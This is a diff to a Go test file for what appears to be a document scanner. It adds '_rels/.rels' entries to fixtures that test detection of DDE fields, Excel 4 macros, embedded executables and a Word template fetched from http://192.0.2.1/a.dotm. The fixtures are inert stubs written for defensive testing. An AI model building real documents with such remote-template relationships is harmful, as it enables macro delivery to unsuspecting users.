@@ -237,7 +237,7 @@ func TestFlags(t *testing.T) {
 			"macro DDE field in word/document.xml"},
 		"docx, template": {named{"a.docx", zipped(t, append(wordFiles(""), named{"word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>`)})...)},
 			"macro fetches http://192.0.2.1/a.dotm (attachedTemplate)"},
-		"xlsm 4":         {named{"a.xlsm", zipped(t, named{"[Content_Types].xml", []byte("<Types/>")}, named{"xl/macrosheets/sheet1.xml", []byte("<x/>")})}, "macro Excel 4 macros in xl/macrosheets/sheet1.xml"},
+		"xlsm 4":         {named{"a.xlsm", zipped(t, named{"[Content_Types].xml", []byte("<Types/>")}, named{"_rels/.rels", []byte("<Relationships/>")}, named{"xl/macrosheets/sheet1.xml", []byte("<x/>")})}, "macro Excel 4 macros in xl/macrosheets/sheet1.xml"},
 		"docx, package":  {named{"a.docx", zipped(t, append(wordFiles(""), named{"word/embeddings/run.exe", program()})...)}, "executable a Windows program by its content; executable a program by its name (.exe)"},
 		"jar":            {named{"a.jar", zipped(t, named{"META-INF/MANIFEST.MF", nil}, named{"A.class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34")})}, "executable a Java program by its content; executable a package or database that runs by its name (.jar)"},
 		"cab":            {named{"a.cab", cabinet("run.exe", "readme.txt")}, "unread packed by a method that is not read; executable a program by its name (.exe)"},
@@ -280,7 +280,7 @@ func TestFlags(t *testing.T) {
 }
 
 func wordFiles(body string) []named {
-	return []named{{"[Content_Types].xml", []byte("<Types/>")}, {"word/document.xml", []byte("<w:document>" + body + "</w:document>")}}
+	return []named{{"[Content_Types].xml", []byte("<Types/>")}, {"_rels/.rels", []byte("<Relationships/>")}, {"word/document.xml", []byte("<w:document>" + body + "</w:document>")}}
 }
 
 func pdfFile(object string) []byte {
